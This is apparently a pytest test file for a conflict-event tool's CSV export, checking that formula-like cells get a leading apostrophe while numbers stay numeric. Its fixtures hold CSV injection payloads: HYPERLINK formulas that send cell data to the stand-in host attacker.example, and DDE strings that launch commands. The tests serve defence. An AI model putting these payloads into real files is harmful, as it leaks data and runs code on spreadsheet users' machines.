"""CSV cells that a spreadsheet would run as formulas are neutralised (OWASP's rule: a leading
apostrophe before =, +, -, @, tab, carriage return), while numbers -- negative ones too -- stay
numbers; checked on export records and through the real CLI from an ingested page."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from datetime import date
from pathlib import Path

import pytest

from borderwatch.export import export, spreadsheet_safe
from borderwatch.model import ActorRef, Place, SourceRef

from .conftest import borderwatch_command
from .test_export import clash_event

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "value", [-3.5, -12, 0, 36.44, "-12", "-0.75", "+5", "Syrian troops", "", "a=b", "e-mail"]
)
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def rows(events: list[dict]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(export(events, "csv")), newline="")))


def test_every_text_column_is_neutralised_in_the_export() -> None:
    formula = HOSTILE[0]
    actor = ActorRef(formula, "@SUM(1+1)", None, 3, "Lebanon")
    place = Place("-1+2", -3.25, -10.5, 1, "Lebanon", "LB", "=admin", "gazetteer")
    source = SourceRef("papers/a.txt", formula, date(2025, 8, 11), "+x sentence", None)
    event = clash_event(actor1=actor, place=place, notes="=1+1", sources=[source], tags=["=tag"])
    (row,) = rows([event])
    assert row["actor1"] == "'@SUM(1+1)"
    assert row["location"] == "'-1+2"
    assert row["admin1"] == "'=admin"
    assert row["notes"] == "'=1+1"
    assert row["source"] == "'" + formula
    assert float(row["latitude"]) == -3.25 and float(row["longitude"]) == -10.5
    for name, cell in row.items():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
        assert not cell.startswith("-") or _number(cell), (name, cell)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_jsonl_keeps_the_text_verbatim() -> None:
    event = clash_event(notes="=1+1")
    line = "".join(export([event], "jsonl"))
    assert json.loads(line)["notes"] == "=1+1"


def test_a_hostile_source_line_is_inert_in_the_cli_export(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    outlet = '=HYPERLINK("http://attacker.example/?leak="&A2,"Reuters")'
    page = tmp_path / "report.txt"
    page.write_text(
        f"Source: {outlet}\n\n"
        "Syrian army troops clashed with gunmen near the border town of Qusayr on Monday, "
        "killing two fighters, a war monitor said.\n",
        encoding="utf-8",
    )

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            borderwatch_command() + list(args),
            env=cli_env,
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )

    assert cli("ingest", str(page), "--published", "2025-06-02").returncode == 0
    done = cli("export", "--format", "csv")
    assert done.returncode == 0, done.stderr
    exported = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert exported, "the invented report gave no event"
    for row in exported:
        assert row["source"] == "'" + outlet
        assert json.loads(row["sources"])[0]["outlet"] == outlet  # inside JSON: not a formula
